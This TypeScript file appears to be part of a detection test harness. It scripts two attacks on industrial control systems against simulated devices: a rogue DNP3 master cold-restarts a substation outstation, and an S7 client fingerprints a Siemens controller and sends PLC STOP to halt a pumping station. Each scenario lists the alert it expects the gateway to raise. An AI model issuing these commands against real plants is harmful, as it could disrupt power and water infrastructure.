/**
 * OT attack scenarios through the gateway's ot_proxy: a rogue DNP3 master cold-restarts the
 * substation outstation (FC 13, IEEE 1815-2012 §4.4.11: the RTU reboots and stops reporting until
 * it is back), and a Snap7-style client fingerprints the S7 controller (SZL 0x001c) and sends
 * PLC STOP (function 0x29, P_PROGRAM), which halts the pumping station's program.
 */
import { connectDnp3Master, DNP3_FC } from '../../firmware-shims/simulators/dnp3-outstation.ts';
import { connectS7Client } from '../../firmware-shims/simulators/s7-plc.ts';
import type { PlantTargets, Scenario } from './types.ts';

const need = <T>(value: T | undefined, what: string): T => {
  if (!value) throw new Error(`the plant has no ${what} (start it with the OT devices)`);
  return value;
};

export const dnp3ColdRestart: Scenario = {
  name: 'dnp3-cold-restart',
  description: 'a rogue DNP3 master cold-restarts the substation outstation (FC 13) through the proxy',
  expects: ['DNP3 cold or warm restart of an outstation'],
  async run(t: PlantTargets, { log } = {}) {
    const target = need(t.dnp3, 'DNP3 outstation');
    const master = await connectDnp3Master({
      host: target.host,
      port: target.port,
      localAddress: t.attackerAddress,
      // A master address the outstation's own master does not use.
      address: 100,
      outstation: target.outstation,
    });
    try {
      log?.(`rogue master ${t.attackerAddress} → outstation ${target.outstation}: COLD_RESTART`);
      const answer = await master.request(DNP3_FC.COLD_RESTART);
      const delay = answer?.objects.find((h) => h.group === 52)?.points[0]?.value;
      return `cold restart of outstation ${target.outstation}: ${answer ? `accepted, back in ${String(delay ?? '?')} s` : 'no answer'}`;
    } finally {
      master.close();
    }
  },
};

export const s7PlcStop: Scenario = {
  name: 's7-plc-stop',
  description: 'a Snap7-style client reads the S7 identity (SZL 0x001c) and stops the CPU (PLC STOP)',
  expects: ['Siemens S7 CPU stopped over the network (S7comm PLC stop)'],
  async run(t: PlantTargets, { log } = {}) {
    const target = need(t.s7, 'S7 controller');
    const client = await connectS7Client({
      host: target.host,
      port: target.port,
      localAddress: t.attackerAddress,
    });
    try {
      log?.(`client ${t.attackerAddress} → S7 controller: read SZL 0x001c, then PLC STOP`);
      await client.readSzl(0x001c);
      const answer = await client.plcStop();
      return `PLC STOP ${answer ? (answer.errorClass ? `refused (error class ${answer.errorClass})` : 'accepted: the CPU is in STOP') : 'unanswered'}`;
    } finally {
      client.close();
    }
  },
};
